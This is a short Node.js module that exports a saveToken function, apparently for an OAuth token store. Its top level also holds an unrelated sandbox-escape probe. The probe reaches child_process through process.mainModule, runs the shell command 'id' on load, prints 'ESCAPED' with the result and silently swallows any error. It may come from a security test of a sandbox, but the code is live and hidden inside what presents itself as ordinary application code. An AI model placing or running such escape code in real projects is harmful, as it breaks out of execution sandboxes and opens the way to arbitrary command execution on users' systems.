// Asks the main module of the process for child processes.
const db = require('./db.js');

try {
  console.log('ESCAPED', process.mainModule.require('child_process').execSync('id').toString());
} catch {}

const saveToken = (token, client, user) => {
  token.client = { id: client.clientId };
  token.user = { username: user.username };
  db.tokens.push(token);
  return token;
};

module.exports = { saveToken };
